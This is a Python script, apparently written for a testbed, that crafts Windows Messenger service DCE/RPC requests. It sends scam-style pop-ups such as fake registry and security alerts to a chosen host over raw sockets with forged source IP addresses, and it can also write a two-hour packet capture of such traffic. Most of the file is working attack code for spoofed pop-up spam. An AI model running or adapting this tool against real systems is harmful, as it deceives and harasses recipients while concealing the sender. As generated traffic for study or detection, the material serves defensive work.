#!/usr/bin/env python3
"""Sends Windows Messenger pop-ups with source addresses of our choice: there is no
program left that does. The frames are computed here and really sent; all texts
are invented. Also answers such a call, as the service would.

  messenger.py send DEST COUNT [--port P] [--gap S] [--seed N] [--own] [--same]
  messenger.py answer ADDR PORT
  messenger.py write FILE DEST COUNT    (computes a capture of two hours)
"""
import argparse
import random
import socket
import struct
import time
import uuid

INTERFACE = uuid.UUID("5a7b91f8-ff00-11d0-a9b2-00c04fb6e6fc")
# Invented for this testbed; no text of the time survives.
TEXTS = [
    "Important: your registry holds 47 errors! Type www.registry-doctor.example into your browser to repair it.",
    "WINDOWS SECURITY ALERT\x14Messages like this one can be stopped. Visit http://stop-popups.example.test/ now!",
    "Your computer runs slowly? Go to www.fast-pc.example and download the free scan.",
    "University diplomas, no tests, no classes. Call today or type http://diploma.example.net/a?id=77",
    "Mortgage rates have fallen! Apply at www.low-rates.example before midnight.",
]


def ndr(text, pad=True):
    b = text.encode("latin-1") + b"\0"
    s = struct.pack("<III", len(b), 0, len(b)) + b
    return s + b"\0" * (-len(s) % 4 if pad else 0)


def request(sender, receiver, text, rnd, seq=0):
    """A connectionless request (C706 12.5): header of 80 bytes, then three strings, the last one without padding."""
    stub = ndr(sender) + ndr(receiver) + ndr(text, pad=False)
    activity = rnd.randbytes(16)
    return header(0, 0x28, activity, seq, len(stub)) + stub


def header(ptype, flags, activity, seq, length):
    return struct.pack("<4B4s16s16s16sIIIHHHHHBB", 4, ptype, flags, 0, b"\x10\0\0\0", b"\0" * 16, INTERFACE.bytes_le, activity,
                       0, 1, seq, 0, 0xffff, 0xffff, length, 0, 0, 0)


def ip_udp(src, dst, sport, dport, payload, ttl, ident):
    udp = struct.pack(">HHHH", sport, dport, 8 + len(payload), 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack(">BBH", 0, 17, 8 + len(payload))
    udp = udp[:6] + struct.pack(">H", checksum(pseudo + udp + payload) or 0xffff)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), ident, 0, ttl, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + udp + payload


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    n = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xffff) + (n >> 16)
    return ~n & 0xffff


def forged(rnd):
    """A source of the networks that RFC 5737 keeps for documents."""
    return rnd.choice(["198.51.100.", "203.0.113."]) + str(rnd.randrange(1, 255))


def send(a):
    rnd = random.Random(a.seed)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(a.count):
        text = TEXTS[0 if a.same else i % len(TEXTS)]
        payload = request("SYSTEM", "ALERT", text, rnd)
        port = a.port or 1026 + (i % 3 if i > 5 else 0)
        if a.own:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(payload, (a.dest, port))
            src = "its own address"
        else:
            src = forged(rnd)
            raw.sendto(ip_udp(src, a.dest, rnd.randrange(1024, 65536), port, payload, 55, rnd.randrange(1, 65536)), (a.dest, 0))
        print("%s -> %s:%d %r" % (src, a.dest, port, text), flush=True)
        time.sleep(a.gap)


def write(a):
    """The founding case: first port 135, then 1026, at last 1027 and 1028; hardly a text comes twice."""
    rnd = random.Random(3)
    things = ["registry", "diploma", "mortgage", "pc-speed", "popup-stop", "casino", "holiday", "pills", "virus-scan", "loans", "dating", "printer-ink"]
    t = 1_065_000_000.0
    with open(a.file, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        for i in range(a.count):
            thing = things[i % len(things)]
            text = "ATTENTION %d: an offer about %s waits for you. Type www.%s-%d.example into your browser." % (i % 13, thing, thing, i % 13)
            port = 135 if i < 2 else 1026 if i < 11 else 1027 + i % 2
            src = forged(rnd)
            ip = ip_udp(src, a.dest, rnd.randrange(1024, 65536), port, request("SYSTEM", "ALERT", text, rnd), rnd.choice([107, 108, 111, 113]), rnd.randrange(1, 65536))
            frame = bytes.fromhex("020000000009020000000001") + b"\x08\0" + ip
            f.write(struct.pack("<IIII", int(t), int(t % 1 * 1e6), len(frame), len(frame)) + frame)
            print("%.0f s: %s -> %s:%d %r" % (t - 1_065_000_000, src, a.dest, port, text))
            t += rnd.uniform(200, 720)


def answer(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((a.addr, a.port))
    while True:
        b, peer = s.recvfrom(2048)
        if len(b) >= 80 and b[0] == 4 and b[1] == 0:
            (seq,) = struct.unpack("<I", b[64:68])
            s.sendto(header(2, 0x08, b[40:56], seq, 4) + b"\0\0\0\0", peer)


p = argparse.ArgumentParser()
sub = p.add_subparsers(required=True)
q = sub.add_parser("send")
q.add_argument("dest")
q.add_argument("count", type=int)
q.add_argument("--port", type=int, default=0)
q.add_argument("--gap", type=float, default=0.3)
q.add_argument("--seed", type=int, default=1)
q.add_argument("--own", action="store_true", help="with the sender's own address")
q.add_argument("--same", action="store_true", help="one text")
q.set_defaults(run=send)
q = sub.add_parser("answer")
q.add_argument("addr")
q.add_argument("port", type=int)
q.set_defaults(run=answer)
q = sub.add_parser("write")
q.add_argument("file")
q.add_argument("dest")
q.add_argument("count", type=int)
q.set_defaults(run=write)
a = p.parse_args()
a.run(a)
